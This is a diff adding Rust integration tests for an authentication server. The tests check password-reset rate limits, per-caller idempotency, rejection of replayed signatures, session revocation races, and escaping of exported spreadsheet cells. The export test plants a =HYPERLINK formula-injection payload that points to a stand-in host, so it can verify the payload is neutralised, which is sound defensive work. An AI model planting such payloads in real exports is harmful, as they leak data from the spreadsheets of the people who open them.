@@ -198,3 +198,277 @@ fn licence_requests_are_rate_limited_and_capped() {
     );
     assert_eq!(l["e"], 200, "{l}");
 }
+
+/// Forgot Password may be called a few times per user name an hour, existing or not (the
+/// answer must not tell which); then 429 in the family's envelope.
+#[test]
+fn forgot_password_is_rate_limited_per_user() {
+    let s = Server::start_with(
+        &[],
+        &[("GATEHOUSE_SECURITY__FORGOT_PASSWORD_PER_HOUR", "2")],
+    );
+    let da = DaSession::open(&s, "siti", "siti-pass-1", "clerk");
+    let bearer = format!("Bearer {}", da.client_token);
+    let forgot = |u: &str| {
+        let rid = request_id();
+        post_json(
+            &format!("{}/user/forgot-password", da.base),
+            &da_client_headers(&da.app_key, &bearer, &rid),
+            &json!({"username": u}),
+        )
+    };
+    for name in ["siti", "ghost"] {
+        assert_eq!(forgot(name).status, 200, "{name}");
+        assert_eq!(forgot(name).status, 200, "{name}");
+        let third = forgot(name);
+        assert_eq!(third.status, 429, "{name}: {}", third.text);
+        assert_eq!(third.json()["code"], 429);
+        assert!(third.header("retry-after").is_some());
+    }
+    // Another user is not held back by siti's limit.
+    assert_eq!(forgot("budi").status, 200);
+}
+
+/// Two users of one client system sending the same x-request-id and body are two calls:
+/// neither gets the other's stored answer, and both writes happen.
+#[test]
+fn idempotency_records_belong_to_the_caller_not_the_client() {
+    let s = Server::start();
+    let a = DaSession::open(&s, "clerk.a", "clerk-a-pass", "clerk");
+    s.cli(&[
+        "user",
+        "add",
+        "--username",
+        "clerk.b",
+        "--password",
+        "clerk-b-pass",
+        "--role",
+        "clerk",
+    ]);
+    let b = DaSession::login(&s, &a.app_key, &a.private_key, "clerk.b", "clerk-b-pass");
+    let body = json!({"title": "Weed block 7"});
+    let rid = request_id();
+    let first = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
+    assert!(first.status == 200 || first.status == 201, "{}", first.text);
+    // A's own retry replays.
+    let again = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
+    assert_eq!(again.header("x-idempotent-replay"), Some("true"));
+    assert_eq!(again.text, first.text);
+    // B with the same id and body: B's own write, not A's answer.
+    let other = b.call_as("POST", "/tasks", Some(&body), &rid, "en");
+    assert!(other.status == 200 || other.status == 201, "{}", other.text);
+    assert!(
+        other.header("x-idempotent-replay").is_none(),
+        "B got A's stored answer: {}",
+        other.text
+    );
+    assert_ne!(other.json()["data"]["id"], first.json()["data"]["id"]);
+    // A replay does not outlive its credential: after logout the stored answer is not served.
+    let out = a.call("POST", "/user/logout", Some(&json!({})));
+    assert_eq!(out.status, 200, "{}", out.text);
+    let after = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
+    assert_eq!(after.status, 401, "{}", after.text);
+    assert!(after.header("x-idempotent-replay").is_none());
+}
+
+/// A captured Verify replays within its ±300 s window only.
+#[test]
+fn a_verify_replay_after_the_window_gets_no_client_token() {
+    let s = Server::start();
+    let c = s.cli_json(&["client", "add", "--name", "gate-app"]);
+    let (ak, pk) = (
+        c["app_key"].as_str().unwrap(),
+        c["private_key"].as_str().unwrap(),
+    );
+    let rid = request_id();
+    // Signed 298 s ago: still inside the window, for two more seconds.
+    let ts = now_unix() - 298;
+    let sig = hmac_hex(pk, &format!("{rid}\n{ts}"));
+    let send = || {
+        post_json(
+            &s.url("/daily/v1/authorize/verify"),
+            &[
+                ("x-app-key", ak),
+                ("x-request-id", &rid),
+                ("x-language", "en"),
+            ],
+            &json!({"timestamp": ts, "signature": sig}),
+        )
+    };
+    let first = send();
+    assert_eq!(first.status, 200, "{}", first.text);
+    assert!(first.json()["data"]["client_token"].is_string());
+    std::thread::sleep(std::time::Duration::from_millis(3500));
+    let late = send();
+    assert_eq!(late.status, 401, "{}", late.text);
+    assert!(!late.text.contains("client_token"), "{}", late.text);
+    assert!(late.header("x-idempotent-replay").is_none());
+}
+
+/// A touch (recording a session's use) racing a revoke never brings the session back. Loops
+/// with many sessions and constant touches until the race would have happened.
+#[test]
+fn touches_racing_a_revoke_never_revive_a_session() {
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use std::sync::Arc;
+    let s = Server::start_with(&[], &[("GATEHOUSE_SECURITY__SESSION_TOUCH_SECS", "0")]);
+    let imei = "359000000000033";
+    s.cli(&[
+        "user",
+        "add",
+        "--username",
+        "racer",
+        "--password",
+        "racer-pass-0",
+        "--role",
+        "supervisor",
+    ]);
+    let lic = codelayer_licence(&s, imei);
+    for round in 0..4 {
+        let pw = format!("racer-pass-{round}");
+        // Codelayer sessions and Authorize sign-ins of one user.
+        let cl: Vec<String> = (0..6)
+            .map(|_| {
+                let a = codelayer(
+                    &s,
+                    "system/auth",
+                    &json!({"key": lic, "username": "racer", "password": pw, "imei": imei, "ver": "1.0.0.0"}),
+                );
+                assert_eq!(a["e"], 200, "{a}");
+                a["key"].as_str().unwrap().to_string()
+            })
+            .collect();
+        let az: Vec<(String, String)> = (0..6)
+            .map(|i| {
+                let dev = format!("RACE-{round}-{i}");
+                let a = post_json(
+                    &s.url("/api/users/authorize"),
+                    &[],
+                    &json!({"username": "racer", "password": pw, "deviceID": dev, "notificationCenterType": "none"}),
+                );
+                assert_eq!(a.status, 200, "{}", a.text);
+                (dev, a.json()["message"]["token"].as_str().unwrap().to_string())
+            })
+            .collect();
+        // Authorize touches at most once a second: let every sign-in become touchable.
+        std::thread::sleep(std::time::Duration::from_millis(1100));
+        let stop = Arc::new(AtomicBool::new(false));
+        let workers: Vec<_> = (0..4)
+            .map(|w| {
+                let (stop, cl, az, base) = (stop.clone(), cl.clone(), az.clone(), s.url(""));
+                std::thread::spawn(move || {
+                    let mut i = w;
+                    while !stop.load(Ordering::Relaxed) {
+                        let k = &cl[i % cl.len()];
+                        let _ = post_json(
+                            &format!("{base}/codelayer/system/settings"),
+                            &[],
+                            &json!({"key": k, "imei": "359000000000033"}),
+                        );
+                        let (d, t) = &az[i % az.len()];
+                        let _ = post_json(
+                            &format!("{base}/api/users/profile"),
+                            &[],
+                            &json!({"deviceID": d, "token": t}),
+                        );
+                        i += 1;
+                    }
+                })
+            })
+            .collect();
+        std::thread::sleep(std::time::Duration::from_millis(150));
+        let next = format!("racer-pass-{}", round + 1);
+        let (st, v) = admin_call(
+            &s,
+            "POST",
+            "/admin/users/password",
+            Some(&json!({"username": "racer", "password": next})),
+        );
+        assert_eq!(st, 200, "{v}");
+        std::thread::sleep(std::time::Duration::from_millis(150));
+        stop.store(true, Ordering::Relaxed);
+        for w in workers {
+            w.join().unwrap();
+        }
+        for k in &cl {
+            let v = codelayer(&s, "system/settings", &json!({"key": k, "imei": imei}));
+            assert_eq!(
+                v["e"], 401,
+                "round {round}: a revoked Codelayer session works again: {v}"
+            );
+        }
+        for (d, t) in &az {
+            let a = post_json(
+                &s.url("/api/users/profile"),
+                &[],
+                &json!({"deviceID": d, "token": t}),
+            );
+            assert_eq!(
+                a.status, 401,
+                "round {round}: a revoked Authorize token works again: {}",
+                a.text
+            );
+        }
+    }
+}
+
+/// Exports open in spreadsheets: a text that would run as a formula is written as text (CSV:
+/// a leading `'`; XLSX: the quote-prefix style), numbers stay numbers.
+#[test]
+fn exported_cells_never_run_as_formulas() {
+    let s = Server::start();
+    let da = DaSession::open(&s, "clerk.x", "clerk-x-pass", "clerk");
+    let evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")";
+    let t = da.call("POST", "/tasks", Some(&json!({"title": evil})));
+    assert!(t.status == 200 || t.status == 201, "{}", t.text);
+    let date = t.json()["data"]["date"].as_str().unwrap().to_string();
+    let dir = tempfile::tempdir().unwrap();
+    let csv_path = dir.path().join("tasks.csv");
+    s.cli_json(&[
+        "export",
+        "tasks",
+        "--from",
+        &date,
+        "--to",
+        &date,
+        "--format",
+        "csv",
+        "--out",
+        csv_path.to_str().unwrap(),
+    ]);
+    let text = std::fs::read_to_string(&csv_path).unwrap();
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(
+        !text.contains(",=HYPERLINK(") && !text.contains(",\"=HYPERLINK("),
+        "{text}"
+    );
+    let xlsx_path = dir.path().join("tasks.xlsx");
+    s.cli_json(&[
+        "export",
+        "tasks",
+        "--from",
+        &date,
+        "--to",
+        &date,
+        "--format",
+        "xlsx",
+        "--out",
+        xlsx_path.to_str().unwrap(),
+    ]);
+    // Read the sheet's XML with Python's zipfile (no zip reader among our dependencies).
+    let py = std::process::Command::new("python3")
+        .arg("-c")
+        .arg("import sys,zipfile;z=zipfile.ZipFile(sys.argv[1]);print(z.read('xl/styles.xml').decode());print(z.read('xl/worksheets/sheet1.xml').decode())")
+        .arg(&xlsx_path)
+        .output();
+    let Ok(py) = py else {
+        eprintln!("python3 not available: XLSX content not read back");
+        return;
+    };
+    let xml = String::from_utf8_lossy(&py.stdout);
+    assert!(
+        xml.contains("quotePrefix=\"1\""),
+        "no quote-prefixed style: {xml}"
+    );
+    assert!(!xml.contains("<f>"), "a formula cell was written: {xml}");
+}
